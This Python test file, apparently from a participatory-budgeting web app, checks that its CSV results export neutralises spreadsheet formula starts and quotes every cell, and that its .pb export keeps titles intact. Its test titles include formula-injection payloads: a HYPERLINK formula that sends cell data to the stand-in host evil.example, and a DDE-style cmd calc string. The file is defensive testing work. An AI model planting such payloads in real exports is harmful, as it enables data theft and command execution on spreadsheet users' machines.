"""results.csv neutralises formula starts for spreadsheets; results.pb keeps titles exactly."""

import csv
import io

from fastapi.testclient import TestClient
from sqlmodel import Session

from app.models.process import Phase
from app.models.proposal import ProposalStatus
from tests.api.conftest import Actors
from tests.factories import make_process, make_proposal
from tests.helpers import API

# Each of OWASP's formula starts, and two titles that must come through unchanged. (The API
# strips leading tab and CR from titles; the export guards against them all the same.)
TITLES = {
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")': True,
    "+31 benches": True,
    "-1 parking spot": True,
    "@SUM(1+1)*cmd|' /C calc'!A0": True,
    "\tTabbed": True,
    "\rCarriage": True,
    'Trees, "big" ones': False,
    "Speeltuin Oosterpark": False,
}


def _published(
    client: TestClient, actors: Actors, session: Session, titles: list[str]
) -> tuple[str, dict[int, str]]:
    process = make_process(session, phase=Phase.voting)
    by_id: dict[int, str] = {}
    for title in titles:
        proposal = make_proposal(
            session,
            process,
            actors.author.user,
            status=ProposalStatus.accepted,
            cost=1_000,
            title=title,
        )
        assert proposal.id is not None
        by_id[proposal.id] = title
    cast = client.put(
        f"{API}/processes/{process.id}/ballot",
        json={"proposal_ids": sorted(by_id)[:2]},
        headers=actors.resident.headers,
    )
    assert cast.status_code == 200, cast.text
    base = f"{API}/processes/{process.id}"
    closed = client.post(f"{base}/transition", json={"to": "closed"}, headers=actors.admin.headers)
    assert closed.status_code == 200, closed.text
    published = client.post(f"{base}/results", headers=actors.admin.headers)
    assert published.status_code == 201, published.text
    return base, by_id


def test_csv_cells_that_would_start_a_formula_are_neutralised_and_all_cells_quoted(
    client: TestClient, actors: Actors, session: Session
) -> None:
    base, by_id = _published(client, actors, session, list(TITLES))
    text = client.get(f"{base}/results.csv").text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["rank", "proposal_id", "title", "cost", "votes", "selected"]
    assert len(rows) == 1 + len(TITLES)
    for row in rows[1:]:
        raw = by_id[int(row[1])]
        assert row[2] == ("'" + raw if TITLES[raw] else raw)
    # Every cell quoted: each of the 6 fields of every record opens with a quote, so no
    # spreadsheet guesses a type from a bare cell.
    records = text.replace('"\n"', '"\x00"').removesuffix("\n").split("\x00")
    assert len(records) == len(rows)
    for record in records:
        assert record.startswith('"')
        assert record.endswith('"')
        assert record.count('","') >= 5


def test_the_pabulib_export_keeps_every_title_exactly(
    client: TestClient, actors: Actors, session: Session
) -> None:
    # Not "\r": the .pb writer does not quote a bare CR (reported, not fixed here).
    titles = [title for title in TITLES if "\r" not in title]
    base, by_id = _published(client, actors, session, titles)
    text = client.get(f"{base}/results.pb").text
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    start = rows.index(["PROJECTS"]) + 1
    header = rows[start]
    projects = rows[start + 1 : rows.index(["VOTES"])]
    names = {int(row[0]): row[header.index("name")] for row in projects}
    assert names == by_id
